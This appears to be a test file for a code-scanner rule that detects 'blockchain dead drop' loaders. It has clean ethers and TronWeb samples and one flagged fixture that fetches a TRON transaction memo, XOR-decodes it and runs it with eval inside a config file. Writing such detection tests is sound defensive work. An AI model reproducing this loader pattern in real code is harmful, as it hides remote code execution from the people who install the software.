import { ruleTest } from '../../testing/rule-tester.js';
import rule from './blockchain-dead-drop.js';

ruleTest(rule, {
  clean: [
    {
      name: 'ethers script reading a receipt',
      file: 'scripts/check.js',
      code: `const { ethers } = require('ethers');
const p = new ethers.JsonRpcProvider('https://bsc-dataseed.binance.org');
p.send('eth_getTransactionByHash', [hash]).then((tx) => console.log(tx.input));
`,
    },
    {
      name: 'TronWeb dApp with a template Function elsewhere',
      file: 'src/tron.js',
      code: `const TronWeb = require('tronweb');
const tw = new TronWeb({ fullHost: 'https://api.trongrid.io' });
export const tpl = new Function('x', 'return x');
`,
    },
  ],
  flagged: [
    {
      name: 'TRON tx memo XOR-decoded and evaluated',
      file: 'server/config/db.js',
      code: `const axios = require('axios');
(async () => {
  const r = await axios.post('https://api.trongrid.io/wallet/gettransactionbyid', { value: 'ab12' });
  const hex = r.data.raw_data.data; let out = '';
  for (let i = 0; i < hex.length; i++) out += String.fromCharCode(hex.charCodeAt(i) ^ key.charCodeAt(i % key.length));
  eval(out);
})();
`,
      findings: [{ line: 3, severity: 'critical', confidence: 'high' }],
    },
  ],
});
